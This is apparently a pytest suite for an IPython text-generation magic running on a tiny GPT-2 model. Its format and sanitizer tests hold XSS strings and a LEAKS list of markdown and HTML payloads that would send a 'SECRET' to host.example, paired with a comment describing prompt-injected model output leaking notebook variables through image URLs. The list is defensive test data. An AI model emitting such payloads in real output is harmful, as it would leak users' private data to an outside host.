"""%%generate end to end on a real tiny GPT-2 in a real IPython shell."""

from __future__ import annotations

import _thread
from typing import Any

import pytest
from conftest import run

import genmagic
from genmagic.request import TextResult


def history(ip: Any) -> Any:
    return genmagic._magics.engine.history


def test_cell_magic_generates_and_records(ip: Any) -> None:
    result = run(ip, "%%generate -m tiny --seed 1 --max-new-tokens 12\nOnce upon a time")
    assert isinstance(result, TextResult)
    assert result.ok and result.request.model == "tiny"
    assert 1 <= result.tokens[0] <= 12
    assert result.timings["tokens"] == result.tokens[0]
    assert result.timings["first_token"] <= result.timings["generate"]
    assert len(result.request.fingerprint) >= 16
    rec = history(ip).get(result.history_id)
    assert rec.status == "ok" and rec.outputs["texts"] == result.texts
    assert rec.request["options"]["seed"] == 1


def test_line_form(ip: Any) -> None:
    result = run(ip, "%generate -m tiny --seed 2 --max-new-tokens 5 The fox")
    assert result.request.prompt == "The fox"


def test_streaming_to_terminal(ip: Any, capsys: pytest.CaptureFixture[str]) -> None:
    result = run(ip, "%%generate -m tiny --seed 3 --max-new-tokens 10 --no-cache\nThe fox")
    out = capsys.readouterr().out
    assert result.text in out


def test_same_seed_same_text_other_seed_differs(ip: Any) -> None:
    a = run(ip, "%%generate -m tiny --seed 5 --max-new-tokens 20 --no-cache\nHello")
    b = run(ip, "%%generate -m tiny --seed 5 --max-new-tokens 20 --no-cache\nHello")
    c = run(ip, "%%generate -m tiny --seed 6 --max-new-tokens 20 --no-cache\nHello")
    assert a.texts == b.texts
    assert not (a.cached or b.cached)
    assert c.texts != a.texts


def test_cache_serves_seeded_and_greedy_runs(ip: Any) -> None:
    first = run(ip, "%%generate -m tiny --seed 7 --max-new-tokens 15\nHi")
    again = run(ip, "%%generate -m tiny --seed 7 --max-new-tokens 15\nHi")
    assert again.cached and again.texts == first.texts
    assert history(ip).get(again.history_id).cached
    greedy = run(ip, "%%generate -m tiny --temperature 0 --max-new-tokens 15\nHi")
    assert run(ip, "%%generate -m tiny --temperature 0 --max-new-tokens 15\nHi").cached
    assert greedy.request.seed is None
    unseeded = run(ip, "%%generate -m tiny --max-new-tokens 15\nHi")
    assert unseeded.request.seed is not None  # chosen at random, recorded
    assert not run(ip, "%%generate -m tiny --max-new-tokens 15\nHi").cached
    assert not run(ip, "%%generate -m tiny --seed 7 --max-new-tokens 15 --no-cache\nHi").cached


def test_changed_model_never_serves_stale_cache(ip: Any, tmp_path: Any) -> None:
    from genmagic.testing import build_tiny_text_model

    path = build_tiny_text_model(tmp_path / "m")
    run(ip, f"%genmagic register mutable {path}")
    first = run(ip, "%%generate -m mutable --seed 1 --max-new-tokens 8\nHi")
    import torch
    from safetensors.torch import load_file, save_file

    weights = load_file(path / "model.safetensors")
    for k in weights:
        weights[k] = weights[k] + 0.5 * torch.randn_like(weights[k])
    save_file(weights, path / "model.safetensors", metadata={"format": "pt"})
    genmagic._magics.engine.models.unload("mutable")
    second = run(ip, "%%generate -m mutable --seed 1 --max-new-tokens 8\nHi")
    assert not second.cached
    assert second.request.fingerprint != first.request.fingerprint


def test_num_samples_side_by_side_each_reproducible(ip: Any) -> None:
    many = run(ip, "%%generate -m tiny --seed 10 -n 3 --max-new-tokens 10\nA")
    assert len(many.texts) == 3
    second = run(ip, "%%generate -m tiny --seed 11 --max-new-tokens 10\nA")
    assert second.texts[0] == many.texts[1]
    html = many._repr_mimebundle_()["text/html"]
    assert html.count("<td") == 3 and "seed 12" in html


def test_stop_strings_end_the_text(ip: Any) -> None:
    result = run(ip, "%%generate -m echo:one,two,three --stop , --stop ; --no-cache\nx")
    assert result.text == "one"
    real = run(ip, "%%generate -m tiny --seed 4 --max-new-tokens 30 --stop e --no-cache\nHi")
    assert "e" not in real.text


def test_out_binds_result(ip: Any) -> None:
    result = run(ip, "%%generate -m tiny --seed 1 --max-new-tokens 4 --out t_story\nHi")
    assert ip.user_ns["t_story"] is result


def test_interpolation(ip: Any) -> None:
    ip.user_ns["t_topic"] = "dragons"
    assert run(ip, "%%generate -m echo:\nTell me about {t_topic}").text == "Tell me about dragons"
    assert run(ip, "%%generate -m echo:\nliteral {{t_topic}}").text == "literal {t_topic}"
    assert run(ip, "%%generate -m echo: --no-interpolate\nraw {t_topic}").text == "raw {t_topic}"
    assert run(ip, "%generate -m echo: about {t_topic}").text == "about dragons"


def test_formats(ip: Any) -> None:
    value = run(ip, '%%generate -m echo: -f json\n{"a": [1, 2]}')
    assert value == {"a": [1, 2]}
    fenced = run(ip, '%%generate -m echo: -f json\n```json\n{"b": true}\n```')
    assert fenced == {"b": True}
    md = run(ip, "%%generate -m echo: -f markdown\n# Title\n\n<script>alert(1)</script>\n\n[x](javascript:alert(1)) **bold**")
    html = md._repr_mimebundle_()["text/html"]
    assert "<h1>Title</h1>" in html and "<strong>bold</strong>" in html
    assert "<script" not in html and 'href="javascript' not in html
    raw = run(ip, '%%generate -m echo: -f html\n<img src="x" onerror="alert(1)"><a href="javascript:x()">a</a><b>ok</b>')
    html = raw._repr_mimebundle_()["text/html"]
    assert "onerror" not in html and "javascript" not in html and "<b>ok</b>" in html


# Model output must not make the browser fetch anything: a prompt-injected model leaks the
# notebook variables filled into its prompt through an image URL.
LEAKS = [
    "![x](https://host.example/?d=SECRET)",
    '![x](http://host.example/a.png "title")',
    '<img src="http://host.example/?d=SECRET">',
    '<img src="//host.example/?d=SECRET" alt="p">',
    '<img src="https://host.example\\@good.example/?d=SECRET">',
    '<img srcset="https://host.example/?d=SECRET 1x, https://host.example/2 2x">',
    '<picture><source srcset="https://host.example/?d=SECRET"><img src="https://host.example/b"></picture>',
    '<video poster="https://host.example/?d=SECRET" src="https://host.example/v.mp4"></video>',
    '<audio src="https://host.example/?d=SECRET"></audio>',
    '<p style="background: url(https://host.example/?d=SECRET)">s</p>',
    "<div style=\"background-image: url('https://host.example/?d=SECRET')\">s</div>",
    '<table background="https://host.example/?d=SECRET"><tr><td>t</td></tr></table>',
    '<svg><image href="https://host.example/?d=SECRET"/></svg>',
    '<input type="image" src="https://host.example/?d=SECRET">',
    '<link rel="stylesheet" href="https://host.example/?d=SECRET">',
    '<object data="https://host.example/?d=SECRET"></object><embed src="https://host.example/?d=SECRET">',
    '<iframe src="https://host.example/?d=SECRET"></iframe>',
    '<style>body { background: url(https://host.example/?d=SECRET) }</style>',
]


def fetched_urls(markup: str) -> list[str]:
    """Every URL in ``markup`` a browser would load without a click."""
    from html.parser import HTMLParser

    urls: list[str] = []

    class Finder(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            for name, value in attrs:
                value = value or ""
                if name in ("src", "poster", "background", "data") or (name == "href" and tag not in ("a", "area")):
                    urls.append(value)
                elif name in ("srcset", "imagesrcset"):
                    urls.extend(c.split()[0] for c in value.split(",") if c.strip())
                elif name == "style" and "url(" in value:
                    urls.append(value)

        def handle_data(self, data: str) -> None:
            if "url(" in data and self.lasttag == "style":
                urls.append(data)

    Finder().feed(markup)
    return urls


@pytest.mark.parametrize("fmt", ["markdown", "html"])
@pytest.mark.parametrize("payload", LEAKS)
def test_model_output_fetches_nothing_remote(ip: Any, fmt: str, payload: str) -> None:
    html = run(ip, f"%%generate -m echo: -f {fmt}\n{payload}")._repr_mimebundle_()["text/html"]
    assert fetched_urls(html) == []


def test_remote_images_are_links_and_data_images_show(ip: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    png = "data:image/png;base64,iVBORw0KGgo="
    md = run(ip, f"%%generate -m echo:\n![leak](https://host.example/?d=SECRET) ![dot]({png})")
    html = md._repr_mimebundle_()["text/html"]
    assert '<a href="https://host.example/?d=SECRET" title="remote image, not loaded"' in html
    assert ">[image: leak]</a>" in html and f'<img src="{png}" alt="dot">' in html
    page = '<img src="https://good.example/cat.png" alt="cat"><img src="https://host.example/x">'
    ip.run_line_magic("config", 'GenMagics.allowed_image_hosts = ["good.example"]')
    try:
        shown = run(ip, f"%%generate -m echo: -f html\n{page}")._repr_mimebundle_()["text/html"]
    finally:
        ip.run_line_magic("config", "GenMagics.allowed_image_hosts = []")
    assert fetched_urls(shown) == ["https://good.example/cat.png"]
    from genmagic.display import sanitize_html

    for trick in ("https://host.example\\@good.example/x", "https://good.example@host.example/x", "https://good.example.host.example/"):
        assert fetched_urls(sanitize_html(f'<img src="{trick}">', ["good.example"])) == [], trick
    monkeypatch.setenv("GENMAGIC_IMAGE_HOSTS", "*.example")
    assert len(fetched_urls(run(ip, f"%%generate -m echo: -f html\n{page}")._repr_mimebundle_()["text/html"])) == 2
    monkeypatch.delenv("GENMAGIC_IMAGE_HOSTS")
    assert fetched_urls(run(ip, f"%%generate -m echo: -f html\n{page}")._repr_mimebundle_()["text/html"]) == []


def test_code_goes_to_next_cell(ip: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    calls = []
    monkeypatch.setattr(ip, "set_next_input", lambda text, replace=False: calls.append((text, replace)))
    run(ip, "%%generate -m echo: -f code\n```python\nprint('hi')\n```")
    assert calls == [("print('hi')", False)]


def test_chat_keeps_conversation_and_reset(ip: Any) -> None:
    run(ip, "%%generate -m echo: --chat\nfirst question")
    second = run(ip, "%%generate -m echo: --chat\nsecond question")
    assert second.request.messages == (("user", "first question"), ("assistant", "first question"))
    run(ip, "%genmagic reset")
    third = run(ip, "%%generate -m echo: --chat\nagain")
    assert third.request.messages == ()


def test_chat_with_real_template_and_system(ip: Any) -> None:
    backend = genmagic.registry.get_backend("transformers")
    loaded = genmagic._magics.engine.models.get(genmagic._magics.engine.registry.resolve("tiny", "text"),
                                               genmagic.options.TextOptions())
    req = genmagic._magics.engine.request(
        "text", "hello", genmagic.options.TextOptions(chat=True, system="be brief"), model="tiny",
        messages=(("user", "hi"), ("assistant", "yo")),
    )
    ids = backend.encode(loaded.model, req)
    text = loaded.model.tokenizer.decode(ids)
    assert text.startswith("<system>be brief\n<user>hi\n<assistant>yo\n<user>hello\n<assistant>")
    result = run(ip, "%%generate -m tiny --chat --seed 1 --max-new-tokens 5\nhello")
    assert result.ok


def test_interrupt_keeps_partial_text_history_and_model(ip: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    from genmagic import sinks

    class InterruptingSink(sinks.StreamSink):
        def __init__(self, num: int = 1) -> None:
            super().__init__(num=num)
            self.count = 0

        def emit(self, event: Any) -> None:
            super().emit(event)
            self.count += event.type == "token"
            if self.count == 3:
                _thread.interrupt_main()

    monkeypatch.setattr(sinks, "live_text_sink", lambda num, stream, fmt: InterruptingSink(num))
    engine = genmagic._magics.engine
    run(ip, "%%generate -m tiny --seed 1 --max-new-tokens 2\nwarm up")
    loaded_before = engine.models.loaded()[-1].model
    with pytest.raises(KeyboardInterrupt):
        run(ip, "%%generate -m tiny --seed 1 --max-new-tokens 100 --temperature 1 --repetition-penalty 1 --out t_partial\nHi")
    partial = ip.user_ns["t_partial"]
    assert partial.status == "interrupted"
    assert 3 <= partial.tokens[0] < 100
    rec = engine.history.get(partial.history_id)
    assert rec.status == "interrupted" and rec.outputs["texts"] == partial.texts
    monkeypatch.undo()
    after = run(ip, "%%generate -m tiny --seed 1 --max-new-tokens 4\nHi")
    assert after.ok and engine.models.loaded()[-1].model is loaded_before


def test_cancel_through_the_sink(ip: Any) -> None:
    from genmagic.request import ListSink

    engine = genmagic._magics.engine
    request = engine.request("text", "Hi", genmagic.options.TextOptions(seed=1, max_new_tokens=60,
                                                                          repetition_penalty=1.0), model="tiny")
    sink = ListSink(cancel_after=4)
    result = engine.run(request, sink, cache=False)
    assert result.status == "interrupted"
    assert result.tokens[0] <= 12  # events lag tokens by held-back partial characters


def test_python_api(tiny_text_dir: Any) -> None:
    result = genmagic.generate("Once", model=str(tiny_text_dir), seed=3, max_new_tokens=6)
    again = genmagic.generate("Once", model=str(tiny_text_dir), seed=3, max_new_tokens=6)
    assert again.cached and again.texts == result.texts
    with pytest.raises(genmagic.OptionError, match="temperatur"):
        genmagic.generate("Once", model=str(tiny_text_dir), temperatur=1)
    with pytest.raises(genmagic.OptionError, match="--top-p must be between 0 and 1, got 2"):
        genmagic.generate("Once", model=str(tiny_text_dir), top_p=2)


def test_history_magic_and_search(ip: Any) -> None:
    run(ip, "%%generate -m echo:\nalpha beta")
    run(ip, "%%generate -m echo:\ngamma")
    table = run(ip, "%genmagic history")
    assert len(table) == 2
    found = run(ip, "%genmagic history --search beta")
    assert len(found) == 1 and "alpha beta" in repr(found)
    shown = run(ip, f"%genmagic show {found.rows[0][0]}")
    assert shown.text == "alpha beta"


def test_quoted_values_lose_their_quotes(ip: Any) -> None:
    result = run(ip, '%%generate -m echo:a,b;c --system "You are terse." --stop ", " --stop \';\'\nx')
    assert result.request.options.system == "You are terse."
    assert result.request.options.stop == (", ", ";")


def test_request_from_history_keeps_its_key(ip: Any) -> None:
    from genmagic.request import Request

    result = run(ip, "%%generate -m tiny --seed 1 --max-new-tokens 3\nHi")
    engine = genmagic._magics.engine
    rebuilt = Request.from_dict(engine.history.get(result.history_id).request)
    assert rebuilt.key() == result.request.key()
    with_input = Request(kind="text", prompt="p", model="m", options=result.request.options, inputs={"init": b"abc"})
    assert Request.from_dict(with_input.to_dict()).key() == with_input.key()


def test_small_models_run_on_one_thread_and_restore_the_setting(ip: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    import torch

    from genmagic.backends import torch_threads

    torch.set_num_threads(2)
    try:
        with torch_threads(10 * 2**20):
            assert torch.get_num_threads() == 1
        assert torch.get_num_threads() == 2
        with torch_threads(2**40):  # a large model keeps torch's setting
            assert torch.get_num_threads() == 2
        monkeypatch.setenv("GENMAGIC_THREADS", "2")
        with torch_threads(10 * 2**20):
            assert torch.get_num_threads() == 2
    finally:
        torch.set_num_threads(1)
